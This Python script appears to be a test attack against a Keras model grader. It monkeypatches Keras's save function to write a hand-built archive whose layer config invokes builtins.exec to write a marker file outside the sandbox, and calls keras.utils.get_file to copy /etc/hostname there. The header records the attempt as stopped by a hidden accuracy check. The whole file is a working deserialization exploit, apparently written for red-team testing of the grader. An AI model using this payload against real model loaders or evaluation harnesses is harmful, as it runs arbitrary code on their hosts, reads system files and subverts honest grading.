# attack: a hand-written archive with builtins.exec and a downloader of Keras's own as layers
# exercise: xor
# expect: failed
# stopped by: hidden accuracy
# needs: nothing
import json
import zipfile

import keras

model = keras.Sequential([keras.Input((3,)), keras.layers.Dense(16), keras.layers.Dense(2, activation="softmax")])
code = "open('{outside}/was_here', 'w')"


def thing(module, name, *args, **kwargs):
    node = {"args": list(args), "kwargs": kwargs}
    return {"module": module, "class_name": name, "config": {"name": name}, "registered_name": name, "name": name} | {
        "inbound_nodes": [node]
    }


layers = [
    thing("builtins", "exec", code),
    {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "exec"},
    thing("keras.utils", "get_file", "was_here", origin="file:///etc/hostname", cache_dir="{outside}"),
]
config = {
    "module": "keras.src.models.functional",
    "class_name": "Functional",
    "config": {"name": "m", "layers": layers, "input_layers": [["exec", 0, 0]], "output_layers": [["exec", 0, 0]]},
    "registered_name": "Functional",
}


def save(_, path, *args, **kwargs):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__, "date_saved": "today"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"")


keras.src.saving.saving_lib.save_model = save
